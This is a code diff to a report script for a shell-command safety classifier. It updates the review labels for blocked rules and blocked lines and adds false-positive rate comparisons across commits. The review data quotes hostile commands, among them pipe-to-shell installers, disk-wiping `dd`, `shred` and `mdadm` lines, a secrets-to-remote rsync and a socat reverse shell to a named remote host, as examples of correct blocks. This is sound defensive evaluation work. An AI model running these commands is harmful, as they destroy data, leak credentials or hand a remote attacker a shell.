@@ -122,17 +122,24 @@ REVIEWED = {
     "exec-downloaded-script": 'correct: `ruby -e "$(curl ...)"` runs downloaded code',
     "pipe-download-to-shell": "correct: `curl ... | sh` installer pattern",
     "dd-to-device": "correct: `dd of=/dev/sdb` overwrites a disk",
-    "tee-overwrite-system-file": "correct by policy: overwrites a file under /etc (apt sources, timezone)",
+    "tee-overwrite-system-file": "correct by policy: overwrites the package sources (`/etc/apt/sources.list`)",
     "copy-secrets-remote": "correct: rsync of ~/.env* to a remote host",
-    "redirect-system-file": "correct by policy: overwrites a file under /etc",
+    "redirect-system-file": "correct by policy: overwrites a boot, login, package-source or resolver file under /etc",
     "reverse-shell": "correct: `socat exec:'bash -i' tcp:HOST` is a reverse shell",
     "shred": "correct: shreds a disk device",
     "shutdown": "correct: stops or reboots the machine",
     "storage-destroy": "correct: wipes RAID metadata / destroys a pool",
     "chmod-system-weakened": "correct: `chmod 777` on a system binary lets anyone replace it",
     "disk-fill": "correct: `yes > file` in the background writes until the disk is full",
-    "secret-to-network": "WRONG: `openssl req/x509 -key server.key` reads its own key to sign (TLS key "
-    "arguments; the fix belongs to the argument normalization of issue 10)",
+}
+# Blocked lines of the everyday corpus, reviewed one by one (the rule's review above stands for the rest).
+REVIEWED_LINES = {
+    "shutdown -r +5": "correct: reboots the host in 5 minutes (an outage; `shutdown -r +1` is labelled block)",
+    "shutdown -r now": "correct: reboots the host now",
+    "shutdown -h now": "correct: powers the host off until someone turns it on",
+    "shred -n 5 -vz /dev/sda": "correct: overwrites the whole first disk",
+    "mdadm --zero-superblock /dev/sd${D}${P}": "correct: erases the RAID metadata of a member disk (the array is lost)",
+    "socat exec:'bash -i',pty,stderr tcp:remote.butzel.info:3180": "correct: a reverse shell to a remote host",
 }
 
 # Measured with the same judge on the tree before issue 16 (commit b818e74); kept as constants because that
@@ -148,6 +155,10 @@ BRIEF_BEFORE_PER = {
     "disk_device": 9, "system_state": 10, "remote_code": 5,
 }  # fmt: skip
 EVERYDAY_BEFORE = {"ask": 22, "block": 9}
+# The same corpus at the start of this round (commit 659a529): openssl/keytool over-blocks already gone.
+ROUND_COMMIT = "659a529"
+EVERYDAY_ROUND = {"ask": 23, "block": 7}
+NL2BASH_ROUND = {"ask": 618, "block": 17}
 NL2BASH_BEFORE = {"ask": 605, "block": 15}
 LABELLED_BEFORE = {"caught": 421, "strict": 421, "ask": 0, "block": 0}
 
@@ -194,7 +205,8 @@ def nl2bash_section(lines: list[str]) -> tuple[list[str], list[str]]:
         "### NL2Bash (12,607 everyday command lines)",
         "",
         f"Before issue 16 (commit {BEFORE_COMMIT}): ask {_pct(NL2BASH_BEFORE['ask'], total)}, block "
-        f"{_pct(NL2BASH_BEFORE['block'], total)}.",
+        f"{_pct(NL2BASH_BEFORE['block'], total)}; at the start of this round ({ROUND_COMMIT}): ask "
+        f"{_pct(NL2BASH_ROUND['ask'], total)}, block {_pct(NL2BASH_ROUND['block'], total)}.",
         "",
         "| verdict | lines | rate |",
         "|---|---:|---:|",
@@ -293,14 +305,22 @@ def everyday_section() -> tuple[list[str], list[str]]:
         "published apart from filled `<placeholders>`; they include documented dangerous examples (`shutdown`,",
         "`shred /dev/sda`), so some blocks are right. Every block is listed in `shell_everyday_blocked.txt`.",
         "",
-        "| verdict | before | after |",
-        "|---|---:|---:|",
-        f"| ask | {_pct(before['ask'], n)} | {_pct(verdicts['ask'], n)} |",
-        f"| block | {_pct(before['block'], n)} | {_pct(verdicts['block'], n)} |",
+        f"| verdict | before ({BEFORE_COMMIT}) | round start ({ROUND_COMMIT}) | after | target |",
+        "|---|---:|---:|---:|---:|",
+        f"| ask | {_pct(before['ask'], n)} | {_pct(EVERYDAY_ROUND['ask'], n)} | {_pct(verdicts['ask'], n)} | <= 1.5% |",
+        f"| block | {_pct(before['block'], n)} | {_pct(EVERYDAY_ROUND['block'], n)} | {_pct(verdicts['block'], n)} "
+        "| <= 0.3% |",
+        "",
+        "The blocks left are documented dangerous examples, each reviewed in `shell_everyday_blocked.txt` (rule,",
+        "line, review); none is an over-block, so the block rate stays above 0.3% by their count alone.",
         "",
         *review_table(blocked, ask_rules, n, 20),
     ]
-    return md, [f"{rule}\t{line}" for rule, line in sorted(blocked)]
+    return md, [f"{rule}\t{line}\t{_line_review(rule, line)}" for rule, line in sorted(blocked)]
+
+
+def _line_review(rule: str, line: str) -> str:
+    return REVIEWED_LINES.get(line) or REVIEWED.get(rule, "NOT REVIEWED")
 
 
 def main() -> None:
